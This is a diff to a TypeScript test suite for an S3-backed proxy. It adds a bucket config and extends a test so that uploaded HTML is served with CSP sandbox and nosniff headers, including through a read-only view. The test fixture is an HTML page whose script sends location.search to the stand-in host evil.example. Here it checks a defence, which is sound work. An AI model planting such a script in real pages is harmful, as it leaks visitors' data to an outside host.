@@ -29,7 +29,8 @@ const buckets = (ep: string) =>
   bucket("anon", "/anon", "rw", ep, "    access: read-write\n    auth: { anonymous_writes: true }\n") +
   bucket("cached", "/cached", "rw", ep, "    access: read-write\n    auth: { enabled: true }\n    cache: { enabled: true, ttl_seconds: 600 }\n") +
   bucket("trusted", "/trusted", "rw", ep, "    access: read-write\n    sandbox_user_content: false\n    auth: { enabled: true }\n") +
-  bucket("rview", "/rview", "rw", ep, "    auth: { enabled: true }\n");
+  bucket("rview", "/rview", "rw", ep, "    auth: { enabled: true }\n") +
+  bucket("rtrusted", "/rtrusted", "rw", ep, "    sandbox_user_content: false\n    auth: { enabled: true }\n");
 
 /** Requests the proxy sent to the fixture with this method and path since `from`. */
 const upstream = (from: number, method: string, path: string) => s3.requests.slice(from).filter((r) => !r.admin && r.method === method && r.pathname === path);
@@ -44,7 +45,7 @@ for (const engine of ["bun", "node"] as const) {
       await env?.stop();
     });
 
-    test("user content: an uploaded HTML page is answered sandboxed (CSP sandbox, nosniff) from a read-write bucket, cached or not, HEAD too; not from a read-only view or a bucket that opts out", async () => {
+    test("user content: an uploaded HTML page is answered sandboxed (CSP sandbox, nosniff) from a read-write bucket, cached or not, HEAD too; through a read-only view of the same store too; not from a bucket that opts out", async () => {
       const page = "<!doctype html><script>fetch('https://evil.example/?'+location.search)</script>";
       const put = await fetch(env.url(`/rw/${engine}/page.html`), { method: "PUT", body: page, headers: { ...bearer(), "content-type": "text/html" } });
       expect(put.status).toBe(200);
@@ -59,8 +60,10 @@ for (const engine of ["bun", "node"] as const) {
       expect(await sandbox(`/rw/${engine}/page.html`, "HEAD")).toEqual(["sandbox", "nosniff"]);
       expect(await sandbox(`/cached/${engine}/page.html`)).toEqual(["sandbox", "nosniff"]); // MISS
       expect(await sandbox(`/cached/${engine}/page.html`)).toEqual(["sandbox", "nosniff"]); // HIT
-      expect(await sandbox(`/rview/${engine}/page.html`)).toEqual([null, null]);
+      // a read-only bucket on the store a read-write bucket writes serves what users upload as well
+      expect(await sandbox(`/rview/${engine}/page.html`)).toEqual(["sandbox", "nosniff"]);
       expect(await sandbox(`/trusted/${engine}/page.html`)).toEqual([null, null]);
+      expect(await sandbox(`/rtrusted/${engine}/page.html`)).toEqual([null, null]);
     }, T);
 
     test("PUT streams the body to S3 with its exact length; 200 with S3's ETag; the object reads back byte-exact", async () => {
